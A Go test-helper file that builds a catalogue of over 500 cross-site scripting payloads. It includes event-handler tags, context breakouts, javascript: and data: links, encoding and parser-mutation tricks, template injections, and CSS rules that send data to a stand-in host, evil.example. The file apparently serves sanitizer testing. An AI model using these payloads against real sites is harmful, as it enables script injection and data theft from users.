package hostile

import (
	"encoding/base64"
	"fmt"
	"net/url"
	"strings"
)

// Ran is the variable of a page that every payload of [Markup] sets if it runs.
const Ran = "__ran"

// MarkPattern is a regular expression of the mark that is in every payload of [Markup]: by it
// a test knows which one it met, and that it met them all.
const MarkPattern = `zq[0-9]{4}`

// Markup returns more than 500 different payloads that run, load or send something in a page
// that writes them down unescaped: as an element, in an attribute, as an address, a script, a
// style, a template, after a change of encoding, or after the parser repaired them.
func Markup() []string {
	var all []string
	for _, list := range [][]string{elements(), breakouts(), addresses(), encodings(), templates(), invisible(), styles(),
		mutations(), polyglots()} {
		all = append(all, list...)
	}
	for i, s := range all {
		mark := fmt.Sprintf("zq%04d", i)
		code := "window." + Ran + "=`" + mark + "`" // no quotes that an attribute may be in
		s = strings.NewReplacer("{c}", code, "{e}", url.PathEscape(code), "{64}",
			base64.StdEncoding.EncodeToString([]byte("<script>parent."+code+"</script>")), "{m}", mark).Replace(s)
		if !strings.Contains(s, mark) {
			s += " " + mark
		}
		all[i] = s
	}
	return all
}

// cross puts every filling of each hole into a pattern: {1} from the first list and so on.
func cross(pattern string, holes ...[]string) []string {
	all := []string{pattern}
	for i, fillings := range holes {
		var next []string
		for _, s := range all {
			for _, f := range fillings {
				next = append(next, strings.ReplaceAll(s, fmt.Sprintf("{%d}", i+1), f))
			}
		}
		all = next
	}
	return all
}

// elements are tags whose events run by themselves or at a touch, each written in the ways
// that parsers accept and filters forget.
func elements() []string {
	tags := []string{"img src=x|error", "svg|load", "body|load", "video src=x|error", "audio src=x|error", "video><source|error",
		"input autofocus|focus", "select autofocus|focus", "textarea autofocus|focus", "button autofocus|focus", "details open|toggle",
		"iframe src=/healthz|load", "object data=x|error", "embed src=x|load", "link rel=stylesheet href=x|error", "style|load",
		"script src=x|error", "marquee|start", "a tabindex=1 autofocus|focus", "p style=animation-name:x|animationstart",
		"svg><animate attributeName=x dur=1s|begin", "input type=image src=x|error", "math tabindex=1 autofocus|focus", "div contenteditable autofocus|focus",
		"body|pageshow", "dialog open|toggle"}
	var all []string
	for _, t := range tags {
		tag, event, _ := strings.Cut(t, "|")
		for _, form := range []string{`<{t} on{e}="{c}">`, `<{t} on{e}='{c}'>`, `<{t} on{e}=window.__ran='{m}'>`, `<{t} ON{E}="{c}"/>`,
			"<{t}\ton{e}\n=\r\"{c}\">", `<{t}/on{e}="{c}"//`} {
			all = append(all, strings.NewReplacer("{t}", tag, "{e}", event, "{E}", strings.ToUpper(event)).Replace(form))
		}
	}
	return all
}

// breakouts end what they are in, and begin something of their own.
func breakouts() []string {
	ends := []string{`"`, `'`, "`", `">`, `'>`, `" x="`, `</textarea>`, `</title>`, `</script>`, `</style>`, `</select>`, `</option></select>`,
		`</noscript>`, `</template>`, `</iframe>`, `</svg>`, `</td></tr></table>`, `</button>`, `-->`, `]]>`, `*/`, `\"`, `\';`, `");`}
	begins := []string{`<script>{c}</script>`, `<img src=x onerror="{c}">`, ` autofocus onfocus="{c}" x="`, `;{c}//`, `<svg><script>{c}</script>`}
	return cross("{1}{2}", ends, begins)
}

// addresses are links that run, in what carries links.
func addresses() []string {
	links := []string{"javascript:{c}", "JaVaScRiPt:{c}", "java\tscript:{c}", "java\nscript:{c}", "\x01javascript:{c}", " javascript:{c}",
		"javascript&colon;{c}", "&#106;avascript:{c}", "javascript://%0a{e}//{m}", "data:text/html,<script>parent.{c}</script>",
		"data:text/html;base64,{64}#{m}", "data:image/svg+xml,<svg onload={c}>", "vbscript:{c}", "view-source:javascript:{c}",
		"//evil.example/{m}", `\\evil.example\{m}`, "https:evil.example/{m}", "blob:{c}", "file:///etc/passwd#{m}"}
	carriers := []string{"{1}", `<a href="{1}">x</a>`, `<iframe src="{1}"></iframe>`, `<form action="{1}"><input type=submit autofocus></form>`,
		`<object data="{1}"></object>`, `<svg><use href="{1}"/></svg>`, `[pay here]({1})`, `![logo](<{1}>)`}
	var all []string
	for _, c := range carriers {
		all = append(all, cross(c, links)...)
	}
	return append(all, `<base href="//evil.example/{m}/">`, `<meta http-equiv=refresh content="0;url=//evil.example/{m}">`,
		`<meta http-equiv="Content-Security-Policy" content="default-src *;{m}">`, `<button formaction="javascript:{c}">x</button>`,
		`<area href="javascript:{c}">`, `<embed src="javascript:{c}">`, `<a ping="//evil.example/{m}" href=/>x</a>`, `<img srcset="//evil.example/{m} 1x">`,
		`<video poster="//evil.example/{m}">`, `<link rel=prefetch href="//evil.example/{m}">`, `<a xlink:href="javascript:{c}">x</a>`,
		`<iframe srcdoc="<script>parent.{c}</script>"></iframe>`, `<portal src="//evil.example/{m}">`, `<math href="javascript:{c}">x</math>`,
		`<javascript:{c}>`, `<https://evil.example/{m}>`, `[x]: javascript:{c}`, `<a href="tel:1" target="_top" onclick="{c}">x</a>`)
}

// encodings are markup that only a second reading makes so.
func encodings() []string {
	bodies := []string{"script>{c}%s/script>", "img src=x onerror={c}>", "svg onload={c}>"}
	var all []string
	for _, less := range []string{"%3C", "%253C", "&lt;", "&LT", "&#60;", "&#60", "&#0000060", "&#x3c;", "&#x00003C;", "&amp;lt;", `\u003c`, `\x3c`, `\74 `,
		`\003c `, "%u003c", "+ADw-", "\xc0\xbc", "\xe0\x80\xbc", "＜", "﹤", "‹", "ʹ＜", "\x1b$B!c\x1b(B", "=3C", "&lt;&#x200b;"} {
		for _, b := range bodies {
			if strings.Contains(b, "%s") {
				b = strings.Replace(b, "%s", less, 1)
			}
			all = append(all, less+b)
		}
	}
	return all
}

// templates are what the template languages of servers and browsers would work out, and what
// a library that lives in attributes would do.
func templates() []string {
	var all []string
	for _, brackets := range [][2]string{{"{{", "}}"}, {"{{{", "}}}"}, {"${", "}"}, {"#{", "}"}, {"<%= ", " %>"}, {"[[", "]]"}, {"{%", "%}"}, {"@{", "}"},
		{"{{-", "-}}"}, {"<?= ", " ?>"}} {
		for _, inner := range []string{"constructor.constructor(`{c}`)()", "7*7", ".", "printf `%s` .", "$on.constructor('{c}')()"} {
			all = append(all, brackets[0]+inner+brackets[1]+" {m}")
		}
	}
	return append(all, `<div hx-get="//evil.example/{m}" hx-trigger="load">`, `<div data-hx-get="//evil.example/{m}" data-hx-trigger="load">`,
		`<div hx-on:load="{c}">`, `<div hx-on::load="{c}">`, `<div data-hx-on:htmx:load="{c}">`, `<form data-hx-post="/signout" data-hx-trigger="load">{m}</form>`,
		`<div hx-vals="js:{c}" hx-get="/" hx-trigger="load">`, `<div hx-headers='js:{"x":{c}}'>`, `<meta name="htmx-config" content='{"allowEval":true,"x":"{m}"}'>`,
		`<div x-data x-init="{c}">`, `<div v-html="'{c}'">`, `<div ng-app ng-init="{c}">`, `<div data-bind="html:{c}">`, `<div is="{m}">`,
		"{{template `x`}}{m}", "{{define `x`}}{m}{{end}}", "{{range .}}{m}", "{{/* {m}", "{{call .X}}{m}", "{{ {m}")
}

// invisible are payloads with characters that are not seen, dropped or turned around.
func invisible() []string {
	marks := []string{"\x00", "\x08", "\x0b", "\x0c", "\x1b[31m", "\x7f", "\u0085", "\u00ad", "\u200b", "\u200d", "\u200e", "\u202e", "\u2028", "\u2066",
		"\ufeff", "\ufffd", "\U000e0001", "\u0301", "\xed\xa0\x80", "\xff\xfe"}
	return within(marks, `<scr{x}ipt>{c}</script>`, `{x}<img src=x one{x}rror={c}>`, `{x}"{x}>{x}<svg{x}onload="{c}">`)
}

// within puts every mark into every pattern, in the place of {x}.
func within(marks []string, patterns ...string) []string {
	var all []string
	for _, p := range patterns {
		for _, m := range marks {
			all = append(all, strings.ReplaceAll(p, "{x}", m))
		}
	}
	return all
}

// styles load or cover by means of CSS.
func styles() []string {
	rules := []string{"@import url(//evil.example/{m})", "@import '//evil.example/{m}'", "body{background:url(//evil.example/{m})}",
		"body{display:none}/*{m}*/", "input[value^=a]{background:url(//evil.example/{m})}", "@font-face{font-family:x;src:url(//evil.example/{m})}",
		"*{behavior:url(//evil.example/{m})}", "*{x:expression({c})}", "*{-moz-binding:url(//evil.example/{m})}", "@keyframes x{} *{animation:x}/*{m}*/"}
	all := append(cross("<style>{1}</style>", rules), cross("</style><style>{1}", rules)...)
	return append(all, `<div style="position:fixed;inset:0;background:url(//evil.example/{m})">`, `" style="position:fixed;inset:0;background:red" x="{m}`,
		`' style='background:url(javascript:{c})' x='`, `<link rel=stylesheet href=//evil.example/{m}>`, `<p style="x:expression({c})">`,
		`<div style="width:99999px;height:99999px">{m}`, `<font size=999 color=red>{m}`, `<!--{m}`, `<plaintext>{m}`, `<xmp>{m}`)
}

// mutations are harmless as text of a parser and not so after it wrote them down again.
func mutations() []string {
	return []string{`<noscript><p title="</noscript><img src=x onerror={c}>">`, `<math><mtext><table><mglyph><style><img src=x onerror={c}>`,
		`<svg></p><style><a id="</style><img src=x onerror={c}>">`, `<math><mtext><script>{c}</script>`, `<svg><desc><script>{c}</script>`,
		`<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror={c} src>">`, `<table><td><script>{c}</script>`,
		`<template><script>{c}</script></template>`, `<select><iframe></select><img src=x onerror={c}>`, `<title><a id="</title><img src=x onerror={c}>">`,
		`<svg><foreignObject><iframe srcdoc="<script>parent.{c}</script>">`, `<a id=document><a id=document name=cookie href="{m}">`,
		`<img name=getElementById id={m}>`, `<form id=document name=body><input name=innerHTML value={m}>`, `<input name=action form=words-form value="{m}">`,
		`<<script>{c}//<</script>`, `<script<{m}>{c}</script>`, `<scr<script>ipt>{c}</scr</script>ipt>`, `<img """><script>{c}</script>">`,
		`<img src=x:x onerror\x0b="{c}">`, `<svg/onload={c}`, `<img src="x` + "`" + `<script>{c}</script>"` + "`" + `>`, `<body/onload={c}//`,
		`<![CDATA[<script>{c}</script>]]>`, `<!DOCTYPE x [<!ENTITY y "{m}">]>&y;`, `<?xml-stylesheet href="javascript:{c}"?>`, `<!--><img src=x onerror={c}>-->`,
		`<!--[if IE]><script>{c}</script><![endif]-->`}
}

// polyglots are made for several places at once.
func polyglots() []string {
	return []string{"javascript:/*--></title></style></textarea></script><svg/onload='+/`/+/onmouseover=1/+/[*/[]/+{c}//'>",
		"'\">><marquee><img src=x onerror={c}></marquee></plaintext\\></|\\><plaintext/onmouseover={c}>",
		"\";{c};//'/*`/*--></script><script>{c}</script>", "'-{c}-'", "\"-{c}-\"", "`${{c}}`", "{{{c}}}'\"><svg onload={c}>",
		"=HYPERLINK(\"javascript:{c}\")", "');{c};('", "</script><!--<script>{c}//", "%22%3E%3Csvg%20onload%3D{e}%3E", "1;{c}//", "|{c}|",
		"\\x22\\x3e\\x3cscript\\x3e{c}", "x' onclick='{c}' y='", "x\" onpointerover=\"{c}\" y=\"", "x\nonfocus={c}\nautofocus", "#\"><script>{c}</script>"}
}
